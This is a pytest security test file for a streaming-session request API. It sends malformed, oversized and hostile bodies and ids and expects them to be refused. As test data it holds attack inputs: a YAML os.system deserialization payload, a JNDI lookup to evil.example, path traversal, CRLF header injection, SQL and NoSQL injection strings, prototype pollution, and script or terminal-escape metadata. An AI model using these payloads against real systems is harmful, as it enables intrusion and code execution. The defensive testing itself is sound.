"""Bodies, fields and ids that are no requests: fuzzed, huge, deep, half characters, paths that lead up, line breaks."""

from __future__ import annotations

import gzip
import json
import uuid
from typing import Any

import pytest

from tests.e2e.deployed import Deployed
from tests.security.conftest import ReadyStream
from tests.security.people import Person, send

GOOD = '"provider": "nimble", "studioId": "studio", "sessionId": "session"'
DEEP = 50_000


def _post(person: Person, body: str, path: str = "streams", **headers: str) -> tuple[int, dict[str, Any]]:
    status, answered, problem = person.call("POST", path, body, **headers)
    if status >= 400:
        assert answered["Content-Type"] == "application/problem+json", answered
    return status, problem


def _fields(problem: dict[str, Any]) -> set[str]:
    return {error["field"] for error in problem["errors"]}


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999", "-1e999", "9007199254740993", "1e40"])
def test_a_number_that_readers_take_differently_is_refused(alice: Person, number: str) -> None:
    """Send numbers that one JSON reader takes for another than the next: NaN, Infinity, beyond 2^53.

    Stopped by the limits of JSON that is kept: finite, and exact in a double.
    """
    assert _post(alice, f'{{{GOOD}, "metadata": {{"n": {number}}}}}')[0] == 400
    assert _post(alice, f'{{{GOOD}, "deadlineSeconds": {number}}}')[0] == 400


@pytest.mark.parametrize("text", [r"\ud800", r"\udc00\ud800", r"x\udfff"])
def test_half_a_character_is_refused(alice: Person, text: str) -> None:
    """Send half of a surrogate pair, in a value or in a name, which many writers of UTF-8 break on.

    Stopped by the limits of JSON that is kept: whole characters.
    """
    for body in (f'{{{GOOD}, "metadata": {{"t": "{text}"}}}}', f'{{{GOOD}, "metadata": {{"{text}": 1}}}}'):
        assert _post(alice, body)[0] == 400
    assert _post(alice, f'{{"provider": "nimble", "studioId": "{text}", "sessionId": "s"}}')[0] == 400


def test_a_body_that_is_nested_deep_is_refused(alice: Person) -> None:
    """Nest lists and objects so deep that a parser or a writer runs out of stack.

    Stopped by the size, then the depth: 16.
    """
    lists, objects = "[" * 7000 + "]" * 7000, '{"a":' * 2500 + "1" + "}" * 2500
    for inner in (lists, objects, "[" * 20 + "]" * 20):
        assert _post(alice, f'{{{GOOD}, "metadata": {{"m": {inner}}}}}')[0] == 400
    assert _post(alice, "[" * 8000)[0] == 400
    assert _post(alice, f'{{"requests": [{lists}]}}', "batches")[0] == 400
    assert _post(alice, "[" * DEEP + "]" * DEEP, "batches")[0] == 400


def test_a_body_that_is_too_large_is_refused(alice: Person) -> None:
    """Send more than is kept, in bytes and not in characters, to one request and to a batch.

    Stopped by the size: 16 KiB, and 4 MiB for a batch.
    """
    assert _post(alice, f'{{{GOOD}, "metadata": {{"m": "{"x" * 16_384}"}}}}')[0] == 413
    assert _post(alice, f'{{{GOOD}, "metadata": {{"m": "{"é" * 8_200}"}}}}')[0] == 413
    assert _post(alice, f'{{"requests": ["{"x" * (4 * 1024 * 1024)}"]}}', "batches")[0] == 413


@pytest.mark.parametrize(
    "body",
    [
        "",
        " ",
        "null",
        "true",
        "0",
        '""',
        "[]",
        "[{}]",
        "{",
        "{]",
        '{"a"}',
        "{'studioId': 's', 'sessionId': 's'}",
        f"{{{GOOD},}}",
        f"{{{GOOD}}} {{{GOOD}}}",
        f"/* */ {{{GOOD}}}",
        f"\ufeff{{{GOOD}}}",
        "studioId=studio&sessionId=session",
        "<request><studioId>studio</studioId></request>",
        "--- !!python/object/apply:os.system ['id']",
        '{"provider": "nimble", "studioId": "\x01", "sessionId": "s"}',
        "\x00",
    ],
)
def test_what_is_no_json_object_is_refused(alice: Person, body: str) -> None:
    """Send what is no JSON object: fragments, other formats, comments, control characters.

    Stopped by the parser, at the first door: 400 and nothing else.
    """
    assert _post(alice, body)[0] == 400
    assert _post(alice, body, "batches")[0] == 400


@pytest.mark.parametrize(
    "fields",
    [
        {"studioId": None},
        {"studioId": []},
        {"studioId": {"S": "studio"}},
        {"studioId": True},
        {"sessionId": 1},
        {"sessionId": ""},
        {"sessionId": "s" * 65},
        {"expirationInSeconds": "120"},
        {"expirationInSeconds": True},
        {"expirationInSeconds": 120.5},
        {"deadlineSeconds": 0},
        {"deadlineSeconds": -1},
        {"deadlineSeconds": 86_401},
        {"notify": {"type": "sns"}},
        {"notify": [{"type": "sns"}] * 9},
        {"notify": [{"type": "bus"}]},
        {"notify": [{"type": "lambda", "arn": "arn:aws:lambda:us-west-2:000000000000:function:x"}]},
        {"notify": [{"type": "sns", "topicArn": "arn:aws:sns:us-west-2:111111111111:evil"}]},
        {"notify": [{"type": ["sns"]}]},
        {"metadata": []},
        {"metadata": "text"},
        {"claim": "yes"},
        {"waitingRoom": 1},
        {"releaseOnFailure": None},
        {"provider": ["nimble"]},
        {"provider": "../nimble"},
        {"provider": "greenroom.providers.nimble"},
        {"__proto__": {"claim": False}},
        {"constructor": {}},
        {"studioid": "studio"},
        {"\u0455essionId": "session"},
        {"$ne": ""},
    ],
    ids=json.dumps,
)
def test_a_field_that_breaks_its_rule_is_refused_by_name(alice: Person, fields: dict[str, Any]) -> None:
    """Send fields of other kinds, beyond their limits, that do not exist, or that look like ones that do.

    Stopped by the closed set of fields, each with its rule: 400 with the field's name.
    """
    status, problem = _post(
        alice, json.dumps({"provider": "nimble", "studioId": "studio", "sessionId": "session", **fields})
    )
    assert status == 400
    assert {field.partition("[")[0] for field in _fields(problem)} == fields.keys()


@pytest.mark.parametrize(
    ("request_of", "field"),
    [
        ({"provider": "nimble", "studioId": "../../iam", "sessionId": "s"}, "studioId"),
        ({"provider": "nimble", "studioId": "s", "sessionId": "s/../../other/streams"}, "sessionId"),
        ({"provider": "nimble", "studioId": "s", "sessionId": "s%2f.."}, "sessionId"),
        ({"provider": "nimble", "studioId": "s", "sessionId": "s?x=1"}, "sessionId"),
        ({"provider": "jupyterhub", "user": "../admin"}, "user"),
        ({"provider": "jupyterhub", "user": "ada/../root"}, "user"),
        ({"provider": "jupyterhub", "user": ".."}, "user"),
        ({"provider": "jupyterhub", "user": "ada", "serverName": "../../root"}, "serverName"),
        ({"provider": "jupyterhub", "user": "ada", "path": "../../hub/admin"}, "path"),
        ({"provider": "jupyterhub", "user": "ada", "path": "lab/../../../hub/token"}, "path"),
        ({"provider": "jupyterhub", "user": "ada", "path": "//evil.example"}, "path"),
        ({"provider": "jupyterhub", "user": "ada", "path": "lab?token=x"}, "path"),
        ({"provider": "jupyterhub", "user": "ada", "path": "lab#x"}, "path"),
        ({"provider": "jupyterhub", "user": "ada", "path": "lab\\..\\hub"}, "path"),
        ({"provider": "jupyterhub", "user": "ada\r\nX-Admin: 1"}, "user"),
        ({"provider": "dcv", "owner": "../root"}, "owner"),
        ({"provider": "dcv", "owner": "ada/root"}, "owner"),
        ({"provider": "dcv", "owner": "ada\n"}, "owner"),
        ({"provider": "dcv", "owner": "ada", "sessionId": "../console"}, "sessionId"),
        ({"provider": "appstream", "stackName": "../s", "fleetName": "f", "userId": "ada"}, "stackName"),
        ({"provider": "appstream", "stackName": "s", "fleetName": "f/../g", "userId": "ada"}, "fleetName"),
        ({"provider": "appstream", "stackName": "s", "fleetName": "f", "userId": "ada/../eve"}, "userId"),
        ({"provider": "gameliftstreams", "streamGroupId": "sg/../x", "applicationId": "a"}, "streamGroupId"),
        (
            {
                "provider": "gameliftstreams",
                "streamGroupId": "arn:aws:iam::000000000000:role/x",
                "applicationId": "a",
            },
            "streamGroupId",
        ),
    ],
    ids=lambda each: json.dumps(each) if isinstance(each, dict) else each,
)
def test_a_field_leads_out_of_no_path(alice: Person, request_of: dict[str, Any], field: str) -> None:
    """Write a path that leads up, a query, another host or a header into a field that a service's URL is made of.

    Stopped by the rule of each field, which has no slash, no leading dot, no control character.
    """
    status, problem = _post(alice, json.dumps(request_of))
    assert (status, _fields(problem)) == (400, {field})


@pytest.mark.parametrize(
    "request_id",
    [
        "..%2fbatches",
        "..%2f..%2f",
        "%2e%2e",
        "%00",
        "x%0d%0aSet-Cookie:%20a=b",
        "x%0aERROR%20forged",
        "%e2%80%ae",
        "a" * 81,
        "a" * 3000,
        "%7b%22S%22:%22x%22%7d",
        "'%20OR%201=1",
        "*",
        "%25s%25n",
        "$%7bjndi:ldap:%2f%2fevil.example%7d",
        "%ff%fe",
    ],
)
def test_an_id_that_can_be_none_finds_nothing(deployed: Deployed, bob: Person, request_id: str) -> None:
    """Look for an id that is a path, a header, a line of a log, a pattern, or bytes that are no text.

    Stopped by what an id can be: 1 to 80 printable characters. Nothing of it comes back as a header.
    """
    for method, path in (("GET", ""), ("DELETE", ""), ("POST", "/claim")):
        url = f"streams/{request_id}{path}"
        answer = send(deployed, method, url, headers=bob.signed(method, url))
        assert answer.status in {403, 404}, answer.data
        assert "Set-Cookie" not in answer.headers


def test_a_name_that_comes_twice_is_one(deployed: Deployed, alice: Person) -> None:
    """Name a field twice, so that one reader checks the first and another uses the second.

    Stopped by reading once: what was checked is written anew, and goes on from there.
    """
    first, second = (f"session-{uuid.uuid4().hex[:12]}" for _ in range(2))
    deployed.set_session(second, readyAfterSeconds=0)
    body = f'{{"provider": "nimble", "studioId": "studio", "sessionId": "{first}", "sessionId": "{second}"}}'
    status, answer = _post(alice, body)
    assert (status, answer["sessionId"]) == (202, second)
    assert deployed.message(answer["id"])["data"]["sessionId"] == second
    assert deployed.calls(first) == []


def test_a_body_is_not_decoded(deployed: Deployed, alice: Person) -> None:
    """Send ten megabytes as ten kilobytes of gzip.

    Stopped by no decoding: the bytes are no JSON.
    """
    packed = gzip.compress(f"{{{GOOD}}}".encode() + b" " * 10_000_000)
    assert len(packed) < 16_384
    headers = {**alice.signed("POST", "streams", packed), "Content-Encoding": "gzip"}
    assert send(deployed, "POST", "streams", body=packed, headers=headers).status == 400


def test_metadata_comes_back_as_data(deployed: Deployed, alice: Person) -> None:
    """Write scripts, line breaks, escape sequences and log lines into metadata, to run wherever it is shown.

    Stopped by JSON, which escapes them, in every answer and message; no header and no log line has any of it.
    """
    marker = uuid.uuid4().hex
    metadata = {
        "html": f"<script>{marker}</script>",
        "lines": f'{marker}\r\nSet-Cookie: a=b\r\n\r\n{{"level": "ERROR"}}',
        "terminal": f"{marker}\u001b]0;owned\u0007\u001b[2J",
        "bidi": f"{marker}\u202e\u2066",
        "formula": f'=HYPERLINK("{marker}")',
        f"name {marker}\n": {"__proto__": {"admin": True}},
    }  # fmt: skip
    request_id = alice.ask_for_ready(metadata=metadata)
    _, headers, shown = alice.call("GET", f"streams/{request_id}")
    assert shown["metadata"] == deployed.message(request_id)["data"]["metadata"] == metadata
    assert "Set-Cookie" not in headers
    assert marker not in str(headers)


def test_a_batch_s_lines_are_held_to_the_same_rules(alice: Person) -> None:
    """Send by a batch what is refused alone: fields, webhooks, owners, by its lines and by its defaults.

    Stopped by the same rules, line by line: `requests[0].owner`.
    """
    for fields in (
        {"owner": "x"},
        {"notify": [{"type": "webhook", "url": "https://10.0.0.1/"}]},
        {"sessionId": "../s"},
    ):
        request = {"provider": "nimble", "studioId": "studio", "sessionId": "session"}
        as_line = {"requests": [{**request, **fields}]}
        as_default = {
            "requests": [{key: value for key, value in request.items() if key not in fields}],
            "defaults": fields,
        }
        for body in (as_line, as_default):
            status, problem = _post(alice, json.dumps(body), "batches")
            assert (status, {field.split(".")[0] for field in _fields(problem)}) == (400, {"requests[0]"})


@pytest.mark.parametrize(
    ("source", "field"),
    [
        ({"bucket": "secrets", "key": "x"}, "source.bucket"),
        ({"bucket": "classes/../secrets", "key": "x"}, "source.bucket"),
        ({"bucket": "arn:aws:s3:us-west-2:000000000000:accesspoint/x", "key": "x"}, "source.bucket"),
        ({"bucket": "classes", "key": ""}, "source.key"),
        ({"bucket": "classes", "key": "x" * 1025}, "source.key"),
        ({"bucket": "classes", "key": "x", "versionId": "1"}, "source.versionId"),
    ],
    ids=lambda each: json.dumps(each)[:60],
)
def test_a_batch_reads_no_other_bucket(alice: Person, source: dict[str, str], field: str) -> None:
    """Have a batch read an object of a bucket that holds something else.

    Stopped by the setting `batchBuckets`, and IAM.
    """
    status, problem = _post(alice, json.dumps({"source": source}), "batches")
    assert (status, _fields(problem)) == (400, {field})


def test_a_body_is_answered_by_its_owner_only(bob: Person, ready: ReadyStream) -> None:
    """Send a body with a look, a list or a cancellation, to have it taken for a request.

    Stopped by the router: these calls read no body.
    """
    body = f'{{{GOOD}, "owner": "x"}}'
    assert bob.call("GET", "streams", body)[0] == 200
    assert bob.call("DELETE", f"streams/{ready.id}", body)[0] == 404
